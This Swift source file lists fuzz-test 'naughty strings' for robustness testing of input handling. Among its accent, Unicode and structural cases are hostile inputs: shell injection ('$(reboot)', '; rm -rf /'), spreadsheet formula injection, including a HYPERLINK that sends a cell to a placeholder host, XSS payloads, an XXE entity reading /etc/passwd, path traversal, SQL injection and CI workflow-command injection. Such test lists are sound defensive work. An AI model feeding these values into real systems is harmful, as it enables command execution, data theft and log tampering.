/// What people type, paste and try: several hundred texts that some format has stumbled over.
enum NaughtyStrings {
  static let all: [String] =
    characters + accents + formulas + commands + markup + structure + unicode + long

  /// Marks of every language with an accent behind them, so that they are parts of a character.
  static let accents = "\"',;=+-@|<>&%:/\\`*_[](){}#!$~.\t ".unicodeScalars.map {
    "\($0)\u{301}x\($0)\u{301}"
  }

  /// Each control, bidirectional, invisible and separating character, in front and inside.
  static let characters: [String] = {
    let ranges: [ClosedRange<UInt32>] = [
      0x00...0x20, 0x7F...0xA0, 0xAD...0xAD, 0x34F...0x34F, 0x61C...0x61C, 0x115F...0x1160,
      0x180E...0x180E, 0x2000...0x200F, 0x2028...0x202F, 0x205F...0x206F, 0x3000...0x3000,
      0x3164...0x3164, 0xFE0F...0xFE0F, 0xFEFF...0xFEFF, 0xFFA0...0xFFA0, 0xFFF9...0xFFFF,
      0x1D173...0x1D17A, 0x1FFFE...0x1FFFF, 0xE0001...0xE0001, 0xE0020...0xE0022,
    ]
    return ranges.flatMap { $0 }.compactMap(Unicode.Scalar.init).flatMap {
      ["\($0)begins", "in\($0)side"]
    }
  }()

  /// What a spreadsheet would compute, or hide from a look at the first character.
  static let formulas: [String] = {
    let payloads = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.y?\"&A1,\"z\")", "SUM(1;2)"]
    let leads = [
      "=", "+", "-", "@", "==", " =", "\t=", "\r=", "\n=", "\u{200B}=", "\u{FEFF}=", "＝",
      "＋", "－", "＠", "'=", "\"=", "\",=", ";=",
    ]
    return leads.flatMap { lead in payloads.map { lead + $0 } } + [
      "-1", "+1", "1e9", "-1e-9", "=", "-",
    ]
  }()

  /// What a runner of workflows, a terminal or a shell would obey.
  static let commands = [
    "::error::x", " ::error::x", "\n::error file=a::x", "\r\n::add-mask::0", "::stop-commands::t",
    "::set-output name=a::b", "##[error]x", "a ##[add-mask]b", "##vso[task.complete]", "::t::",
    "%0A::error::x", "%25", "%", "a%0Db", "a:b,c=d", "::group::", "::endgroup::",
    "\u{1B}[31mred\u{1B}[0m", "\u{1B}]0;title\u{7}", "\u{9B}31m", "\u{8}\u{8}\u{8}", "\rover",
    "$(reboot)", "`reboot`", "; rm -rf /", "| cat", "&& true", "%s%n%d", "${HOME}", "\\u{202E}",
    "\\n", "\\", "\\\\", "\\\"",
  ]

  /// What HTML, XML, Markdown and TeX would act on.
  static let markup = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr>", "<!--", "-->",
    "]]>", "<![CDATA[x]]>", "&amp;", "&lt;", "&#0;", "&#x1;", "&bogus;", "&", "<", ">", "\"", "'",
    "\"'", "' onclick='x", "<?xml?>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
    "javascript:alert(1)", "[x](javascript:alert(1))", "![x](http://y/z.png)", "| a | b |", "|",
    "\\|", "# head", "- item", "+ item", "1. item", "***", "---", "~~x~~", "`code`", "``` fence",
    "> quote", "*a*", "_b_", "$x$", "\\(x\\)", "@everyone", "https://x.y", "www.x.y", "<a@b.c>",
    ":smile:", "[^1]: note", "<details>", "==mark==",
  ]

  /// What paths, JSON, CSV and databases take for structure.
  static let structure = [
    "", " ", "  ", ".", "..", "/", "//", "../../etc/passwd", "a/b", "a\\b", "C:\\x", "CON", "nul",
    "~", "~root", "-", "--", "--help", "-rf", "*", "?", "a b", " a", "a ", ",", ",,", "a,b", "a;b",
    "a\tb", "a\nb", "a\rb", "a\r\nb", "\"\"", "\"a\"", "a\"b", "\"a,b\"", "\"\r\n\"", "'", "''",
    "{\"a\": 1}", "[1]", "null", "true", "NaN", "Infinity", "-Infinity", "1e400", "0x10", "1,5",
    "1_000", "٣", "½", "²", "∞", "Robert'); DROP TABLE students;--", "' OR 1=1 --", "undefined",
    "None", "EX", "Points Possible", "Student", "ID", "Participant 12", "x.json", ".json",
  ]

  /// Letters in several spellings, directions and planes, up to the edge of the surrogates.
  static let unicode = [
    "é", "e\u{301}", "\u{301}", "ﬁ", "ẞ", "İ", "ı", "Å", "Å", "A\u{30A}", "ǆ", "ﷺ", "שָׁלוֹם",
    "مرحبا", "שלום abc", "日本語", "한글", "ก็็็็็็", "👩‍👩‍👧‍👦", "🇩🇪", "🏴\u{E0067}\u{E007F}", "👍🏽",
    "\u{D7FF}", "\u{E000}", "\u{F8FF}", "\u{FFFD}", "\u{10000}", "\u{10FFFD}", "\u{10FFFF}", "𝕫",
    "Z̷̢͔͓a̶l̵g̴o̷", "⁦x⁩", "ＡＢＣ", "１２", "−1", "‐", "…", "“q”", "«»", "＂", "＇", "，", "；", "⁄",
  ]

  static let long = [
    String(repeating: "A", count: 5_000), String(repeating: "e\u{301}", count: 2_000),
    "a" + String(repeating: "\u{301}", count: 2_000), String(repeating: "\"", count: 999),
    String(repeating: "👍", count: 1_000), String(repeating: ",", count: 1_000),
    String(repeating: "(", count: 1_000), String(repeating: "<", count: 1_000),
  ]
}
